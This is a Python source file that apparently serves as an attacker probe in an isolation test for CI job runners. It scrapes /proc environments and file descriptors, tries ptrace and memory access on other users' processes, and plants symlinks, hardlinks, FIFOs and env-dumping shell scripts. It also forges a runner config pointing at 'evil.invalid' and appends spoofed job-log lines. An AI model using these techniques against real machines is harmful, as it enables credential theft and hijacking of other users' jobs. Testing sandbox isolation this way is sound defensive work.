"""The job of an attacker, as a program of its own: run by a job's user, it tries all that it can
reach on the machine.

    python3 attacker.py FACTS

FACTS is a JSON file: `home` of the agent, `loot` (a folder for what was found), `victim` (a folder
of root's), `variant`, `names` (of files that the agent makes or reads), `other` (ids that are not
this job's).

Standard library only, any Python from 3.9. It counts what it tried, and writes down what it
should not have got.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import stat
import sys
from pathlib import Path
from typing import Any, Callable, Iterator

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
MOST = 1 << 20


class Attacker:
    def __init__(self, facts: dict[str, Any]) -> None:
        self.facts, self.tried = facts, 0
        self.home = Path(facts["home"])
        self.loot = Path(facts["loot"])
        self.victim = Path(facts["victim"])
        self.gains: list[str] = []

    # --- what can be read

    def read(self) -> None:
        """Every file of the machine's folders, and all of every process that /proc tells."""
        texts = []
        for path in self.everything(self.home):
            texts.append(self.text_of(path))
        for process in Path("/proc").glob("[0-9]*"):
            for name in ("environ", "cmdline", "maps", "auxv"):
                texts.append(self.text_of(process / name))
            for open_file in self.inside(process / "fd"):
                texts.append(self.text_of(open_file))
        (self.loot / ("read-%d" % os.getpid())).write_bytes(b"\n".join(texts))

    def everything(self, top: Path) -> Iterator[Path]:
        for place, folders, files in os.walk(str(top)):
            for name in (*folders, *files):
                yield Path(place) / name

    def inside(self, folder: Path) -> list[Path]:
        try:
            return sorted(folder.iterdir())
        except OSError:
            return []

    def text_of(self, path: Path) -> bytes:
        self.tried += 1
        try:
            if not stat.S_ISREG(os.stat(str(path)).st_mode):
                return b""
            with path.open("rb") as file:
                return file.read(MOST)
        except (OSError, ValueError):
            return b""

    # --- what can be done to others' processes

    def processes(self) -> None:
        """Signals, traces and reads of processes that are not this user's."""
        libc = ctypes.CDLL(None, use_errno=True)
        for process in Path("/proc").glob("[0-9]*"):
            try:
                if process.stat().st_uid == os.getuid():
                    continue
            except OSError:
                continue
            pid = int(process.name)
            self.should_fail("signal %d" % pid, lambda: os.kill(pid, 0))  # noqa: B023  called at once
            self.should_fail(
                "open memory of %d" % pid,
                lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR)),  # noqa: B023
            )
            self.tried += 1
            if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
                libc.ptrace(PTRACE_DETACH, pid, 0, 0)
                self.gains.append("traced process %d" % pid)

    def should_fail(self, what: str, attempt: Callable[[], object]) -> None:
        self.tried += 1
        try:
            attempt()
        except OSError:
            return
        self.gains.append(what)

    # --- what can be put in the way

    def plant(self) -> None:
        """In every folder that this user may write: everything that is there, and every name
        that the agent knows, becomes something else; what may only be written is written over."""
        for folder in [
            path
            for path in (self.home, *self.everything(self.home))
            if os.path.isdir(str(path)) and not os.path.islink(str(path))
        ]:
            if not os.access(str(folder), os.W_OK | os.X_OK):
                continue
            for name in sorted(
                {*(path.name for path in self.inside(folder)), *self.facts["names"]}
            ):
                self.put(folder / name)
        for path in self.everything(self.home):
            only_written = os.access(str(path), os.W_OK) and not os.access(
                str(path.parent), os.W_OK
            )
            if os.path.isfile(str(path)) and not os.path.islink(str(path)) and only_written:
                self.tried += 1
                with path.open("a") as file:
                    file.write(self.lines())

    def put(self, path: Path) -> None:
        self.tried += 1
        try:
            if os.path.lexists(str(path)):
                path.rename(path.parent / ("was-%d-%s" % (os.getpid(), path.name)))
            getattr(self, "put_" + self.facts["variant"])(path)
        except OSError:
            pass

    def put_link(self, path: Path) -> None:
        path.symlink_to(self.victim / "secret")

    def put_dangling(self, path: Path) -> None:
        path.symlink_to(self.victim / ("new-" + path.name))

    def put_above(self, path: Path) -> None:
        """To the agent's own folder, so that a name below it is one of root's."""
        path.symlink_to(self.home)

    def put_fifo(self, path: Path) -> None:
        os.mkfifo(str(path))

    def put_socket(self, path: Path) -> None:
        with socket.socket(socket.AF_UNIX) as listening:
            os.chdir(str(path.parent))
            listening.bind(path.name)

    def put_folder(self, path: Path) -> None:
        path.mkdir()
        (path / "inner").symlink_to(self.victim)

    def put_hardlink(self, path: Path) -> None:
        os.link(str(self.victim / "secret"), str(path))

    def put_huge(self, path: Path) -> None:
        with path.open("wb") as file:
            file.truncate(1 << 40)

    def put_text(self, path: Path) -> None:
        """A program that tells who runs it and with what; for what reads JSON, the ids of
        another runner."""
        if path.suffix in ("", ".sh") and not path.name.startswith("."):
            told = self.loot / ("ran-%s" % path.name)
            path.write_text(
                "#!/bin/sh\n{ id -u; env; cat /proc/self/environ; } >> '%s' 2>&1\nexit 0\n" % told
            )
            path.chmod(0o755)
        else:
            other = self.facts["other"]
            path.write_text(
                json.dumps(
                    {
                        "agentId": other["runner"],
                        "poolId": 1,
                        "agentName": "theirs",
                        "serverUrl": "http://evil.invalid",
                    }
                )
            )

    def lines(self) -> str:
        """For whatever believes lines of jobs: other repositories, other runs of this one; also
        what is no number, or has no end. What is believed the most easily comes last."""
        other, own = self.facts["other"], self.facts["repository"]
        odd = [
            "started\t%s\t%s\t%s\tx" % (repository, run, attempt)
            for repository in ("..", "../..", "x/../../user", "a/b?c=/", "é/ü", "", own)
            for run in ("0", "-1", "9" * 5000, "1/../2", "٣", "")
            for attempt in ("1", "٣", "9" * 50)
        ]
        whole = [
            "started\t%s\t%s\t1\tx" % (repository, run)
            for run in other["runs"]
            for repository in ("victim/prod-deploy", own)
        ]
        return "\n%s\n%s\n" % (
            "\n".join([*odd, "\x00\xff", "y" * 70000]) if self.facts["variant"] == "huge" else "",
            "\n".join(whole),
        )

    def report(self) -> None:
        told = {"tried": self.tried, "gains": self.gains}
        (self.loot / ("report-%d.json" % os.getpid())).write_text(json.dumps(told))


def main() -> None:
    facts = json.loads(Path(sys.argv[1]).read_text())
    attacker = Attacker(facts)
    attacker.read()
    attacker.processes()
    attacker.plant()
    attacker.report()


if __name__ == "__main__":
    main()
